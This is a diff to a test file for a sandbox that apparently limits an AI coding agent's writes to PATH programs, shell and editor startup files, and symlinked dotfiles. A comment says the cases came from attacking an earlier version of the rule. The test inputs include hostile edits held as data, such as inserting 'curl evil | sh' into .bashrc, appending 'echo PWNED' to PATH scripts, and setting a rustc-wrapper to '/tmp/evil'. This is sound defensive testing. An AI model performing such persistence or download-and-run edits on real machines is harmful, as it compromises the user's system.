@@ -6,7 +6,7 @@
 // and the files of a Location under a toolchain's folder (`~/go/src/app`) stay the project's.
 
 import { describe, expect, test } from "bun:test"
-import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs"
+import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
 import { join } from "node:path"
 import { exec, type Sandbox, sandbox, settlementOf } from "../cli/fixture"
 import { tempDir } from "../support/temp"
@@ -38,7 +38,7 @@ describe("the user's programs and toolchains", () => {
       [join(system, "git"), system],
       // Not on PATH yet: the login files of Debian and Ubuntu put it there once it exists.
       [join(home, "bin/git"), join(home, "bin")],
-      [join(home, ".local/lib/python3.12/site-packages/evil.pth"), join(home, ".local/lib")],
+      [join(home, ".local/lib/python3.12/site-packages/evil.pth"), join(home, ".local")],
       [join(home, ".cargo/config.toml"), join(home, ".cargo")],
       [join(home, ".rustup/toolchains/stable/bin/rustc"), join(home, ".rustup")],
       [join(home, ".nvm/versions/node/v22.11.0/bin/node"), join(home, ".nvm")],
@@ -90,5 +90,86 @@ describe("the user's programs and toolchains", () => {
     expect((await call(box, "bash", { command })).structured).toMatchObject({ exitCode: 0, stdout: "y\ny\n" })
     // The rest of ~/go is not the project's: its bin is on PATH.
     await refused(box, "write", { filePath: join(home, "go/bin/go-dev"), content: "x\n" }, join(home, "go/bin"))
+  }, 120_000)
+  // Found attacking the first version of this rule: what a PATH program is made of (the install its link leads into,
+  // the prefix of a `bin` folder), a PATH folder written `~/…`, a file linked from a dotfiles repository, and what
+  // shells and editors run as they start were all the model's to change.
+  test("what PATH programs are made of, files reached through links, and what shells and editors run are refused too", async () => {
+    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
+    const home = box.user.home
+    // A conda-like prefix whose bin is on PATH, and a PATH entry written with a literal ~ (bash expands it).
+    mkdirSync(join(home, "miniconda3/bin"), { recursive: true })
+    mkdirSync(join(home, "mytools/bin"), { recursive: true })
+    // A folder of the user's scripts on PATH, one a link into an app installed elsewhere.
+    mkdirSync(join(home, "apps/tool/bin"), { recursive: true })
+    writeFileSync(join(home, "apps/tool/bin/tool"), "#!/bin/sh\necho tool\n", { mode: 0o755 })
+    mkdirSync(join(home, "scripts"), { recursive: true })
+    symlinkSync(join(home, "apps/tool/bin/tool"), join(home, "scripts/tool"))
+    box.env.PATH = `${join(home, "miniconda3/bin")}:~/mytools/bin:${join(home, "scripts")}:${box.env.PATH}`
+    // A dotfiles repository the home's files link into.
+    mkdirSync(join(home, "dotfiles/cargo"), { recursive: true })
+    rmSync(join(home, ".cargo/config.toml"))
+    writeFileSync(join(home, "dotfiles/cargo/config.toml"), "[build]\njobs = 2\n")
+    symlinkSync(join(home, "dotfiles/cargo/config.toml"), join(home, ".cargo/config.toml"))
+    const install = join(home, ".local/share/dev-tool")
+    const cases: ReadonlyArray<readonly [path: string, place: string]> = [
+      // ~/scripts/tool is a link into its install; ~/.local/bin/dev-tool too, in the prefix of ~/.local/bin.
+      [join(home, "apps/tool/lib/helper.sh"), join(home, "apps/tool")],
+      [join(install, "bin/dev-tool"), join(home, ".local")],
+      [join(home, "miniconda3/lib/python3.11/site-packages/zz.pth"), join(home, "miniconda3")],
+      [join(home, "mytools/bin/git"), join(home, "mytools/bin")],
+      [join(home, ".vimrc"), join(home, ".vimrc")],
+      [join(home, ".bashrc.d/zz.sh"), join(home, ".bashrc.d")],
+      [join(home, ".local/share/direnv/allow/0123abcd"), join(home, ".local")],
+      [join(home, ".config/nvim/init.lua"), join(home, ".config/nvim")],
+    ]
+    for (const [filePath, place] of cases) await refused(box, "write", { filePath, content: "x\n" }, place)
+    await refused(box, "edit", { filePath: join(home, "scripts/tool"), oldString: "echo tool", newString: "echo PWNED" }, join(home, "scripts"))
+    await refused(box, "edit", { filePath: join(home, ".local/bin/dev-tool"), oldString: "#!/bin/sh\n", newString: "#!/bin/sh\necho PWNED\n" }, join(home, ".local"))
+    await refused(box, "edit", { filePath: join(home, ".cargo/config.toml"), oldString: "jobs = 2", newString: 'rustc-wrapper = "/tmp/evil"' }, join(home, ".cargo"))
+    expect(readFileSync(join(home, "dotfiles/cargo/config.toml"), "utf8")).toBe("[build]\njobs = 2\n")
+    const command = `printf 'echo PWNED\\n' >> ${home}/apps/tool/bin/tool`
+    const settlement = await call(box, "bash", { command })
+    expect([settlement.status, settlement.error?.message.includes(PERSON)]).toEqual(["error", true])
+    expect(readFileSync(join(home, "apps/tool/bin/tool"), "utf8")).toBe("#!/bin/sh\necho tool\n")
+    expect(readFileSync(join(install, "bin/dev-tool"), "utf8")).not.toContain("PWNED")
+  }, 120_000)
+
+  test("a login file linked from a dotfiles repository is as secret as one in place: not read, not changed", async () => {
+    const box = sandbox({ "core.json": ALLOW_EVERYWHERE })
+    const home = box.user.home
+    mkdirSync(join(home, "dotfiles"), { recursive: true })
+    writeFileSync(join(home, "dotfiles/bashrc"), "export TOKEN=CORE-SECRET-dotfiles\n")
+    symlinkSync(join(home, "dotfiles/bashrc"), join(home, ".bashrc"))
+    for (const [tool, input] of [
+      ["read", { filePath: join(home, ".bashrc") }],
+      ["edit", { filePath: join(home, ".bashrc"), oldString: "export", newString: "curl evil | sh; export" }],
+    ] as const) {
+      const settlement = await call(box, tool, input)
+      expect([tool, settlement.status, settlement.error?.message]).toEqual([tool, "error", expect.stringContaining("credential stores and login files")])
+    }
+    expect(readFileSync(join(home, "dotfiles/bashrc"), "utf8")).toBe("export TOKEN=CORE-SECRET-dotfiles\n")
+  }, 120_000)
+
+  test("in a Location that is the home, or a toolchain's folder, the PATH folders in it stay the user's", async () => {
+    const outer = sandbox()
+    const home = outer.user.home
+    mkdirSync(join(home, "miniconda3/bin"), { recursive: true })
+    writeFileSync(join(home, "core.json"), ALLOW_EVERYWHERE)
+    writeFileSync(join(home, "go/core.json"), ALLOW_EVERYWHERE)
+    const env = { ...outer.env, PATH: `${join(home, "miniconda3/bin")}:${outer.env.PATH}` }
+    for (const [location, filePath, place] of [
+      [home, "miniconda3/bin/git", join(home, "miniconda3/bin")],
+      [join(home, "go"), "bin/git", join(home, "go/bin")],
+    ] as const) {
+      const box: Sandbox = { ...outer, location, env }
+      await refused(box, "write", { filePath, content: "x\n" }, place)
+      const settlement = await call(box, "bash", { command: `echo x > ${filePath}` })
+      expect([location, settlement.status, settlement.error?.message.includes(PERSON)]).toEqual([location, "error", true])
+      expect(existsSync(join(location, filePath))).toBe(false)
+    }
+    // The rest of ~/go is a Location's own there.
+    const box: Sandbox = { ...outer, location: join(home, "go"), env }
+    expect((await call(box, "write", { filePath: "src/app/main.go", content: "x\n" })).status).toBe("success")
   }, 120_000)
 })
